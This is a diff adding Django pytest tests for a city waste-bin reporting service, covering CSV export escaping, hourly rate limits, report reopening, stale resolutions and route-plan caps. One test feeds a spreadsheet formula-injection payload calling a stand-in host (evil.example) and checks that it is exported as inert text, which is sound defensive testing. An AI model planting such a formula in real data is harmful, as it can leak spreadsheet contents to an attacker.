@@ -355,3 +355,85 @@ def test_only_planners_read_reports_through_the_api(client, staff_client):
         f"{API}/reports/{report_id}/resolve", {"resolution": "dismissed"}, content_type="application/json"
     )
     assert twice.status_code == 422
+
+
+# --- Abuse, races and stale reports (review) --------------------------------------------------
+
+
+def test_a_note_that_looks_like_a_formula_is_exported_as_text(staff_client):
+    BinFactory(ref="B-0012")
+    services.report_bin("B-0012", "other", note='=HYPERLINK("https://evil.example/?"&B2,"open")')
+    _, planner = staff_client(Role.OPERATOR)
+    page = planner.get(reverse("waste:reports") + "?status=&format=csv").content.decode()
+    assert "'=HYPERLINK(" in page
+    api = b"".join(planner.get(f"{API}/reports?format=csv").streaming_content).decode()
+    assert "'=HYPERLINK(" in api
+
+
+def test_the_api_counts_reports_against_the_forms_hourly_limit(client, settings):
+    settings.CITYOS_WASTE_REPORT_LIMIT_PER_HOUR = "2"
+    BinFactory(ref="B-0012")
+    answers = [
+        client.post(f"{API}/reports", {"bin": "B-0012", "problem": "full"}, content_type="application/json")
+        for _ in range(3)
+    ]
+    assert [a.status_code for a in answers] == [201, 201, 429]
+    assert answers[2]["Content-Type"].startswith("application/problem+json") and answers[2]["Retry-After"]
+    assert BinReport.objects.get().count == 2
+
+
+def test_a_report_repeated_after_the_collection_stays_open():
+    fleet()
+    target = BinFactory(ref="B-0012")
+    report = services.report_bin("B-0012", "full", at=timezone.now() - timedelta(hours=2)).report
+    day = timezone.localdate() + timedelta(days=1)
+    end = timezone.make_aware(datetime.combine(day, time(5)))
+    history(target, end, 2, lambda t: 0.05, start_fill=5, empty_at=10_000)
+    plan = services.build_plan(day, seconds=0.3, now=end)
+    stop = Stop.objects.get(route__plan=plan, bin=target, kind=StopKind.BIN)
+    emptied_at = timezone.now() - timedelta(minutes=30)  # recorded late: before the repeat below
+    services.report_bin("B-0012", "full")
+    services.mark_collected(stop, user=StaffFactory(roles=[Role.SERVICE_AGENT]), at=emptied_at)
+    report.refresh_from_db()
+    assert report.is_open and report.count == 2  # "full again" after the emptying is not lost
+
+
+def test_a_stale_copy_of_a_report_cannot_resolve_it_twice():
+    BinFactory(ref="B-0012")
+    report = services.report_bin("B-0012", "full").report
+    stale = BinReport.objects.get(pk=report.pk)
+    services.resolve_report(report, ReportResolution.DISMISSED)
+    with pytest.raises(ValidationError) as twice:
+        services.resolve_report(stale, ReportResolution.COLLECTED)
+    assert refusal(twice) == {"resolution": ["This report is already resolved."]}
+    assert BinReport.objects.get(pk=report.pk).resolution == ReportResolution.DISMISSED
+
+
+def test_taking_a_bin_out_of_service_dismisses_its_open_reports():
+    target = BinFactory(ref="B-0012")
+    report = services.report_bin("B-0012", "damaged").report
+    services.save_bin({"is_active": False}, bin=target)
+    report.refresh_from_db()
+    assert report.resolution == ReportResolution.DISMISSED and not report.is_open
+
+
+def test_a_plan_ignores_a_report_the_sensor_saw_emptied_and_caps_how_many_reports_it_obeys(settings):
+    fleet()
+    day = timezone.localdate() + timedelta(days=1)
+    end = timezone.make_aware(datetime.combine(day, time(5)))
+    emptied, low = BinFactory(ref="EMPTIED"), [BinFactory(ref=f"LOW-{i}") for i in range(3)]
+    for b in (emptied, *low):
+        history(b, timezone.now() - timedelta(hours=1), 2, lambda t: 0.05, start_fill=5, empty_at=10_000)
+        services.report_bin(b.ref, "full")
+    # The sensor then sees the reported bin emptied (a fall), the others stay low as before.
+    for b in low:
+        history(b, end, 0, lambda t: 0.0, start_fill=8)
+    history(emptied, timezone.now() - timedelta(minutes=59), 0, lambda t: 0.0, start_fill=40)
+    history(emptied, end, 0, lambda t: 0.0, start_fill=0)
+    for i, b in enumerate(low):  # most reported first
+        for _ in range(i):
+            services.report_bin(b.ref, "full")
+    settings.CITYOS_WASTE_REPORT_MUST_MAX = "2"
+    plan = services.build_plan(day, seconds=0.3, now=end)
+    required = set(Stop.objects.filter(route__plan=plan, required=True).values_list("bin__ref", flat=True))
+    assert required == {"LOW-2", "LOW-1"}
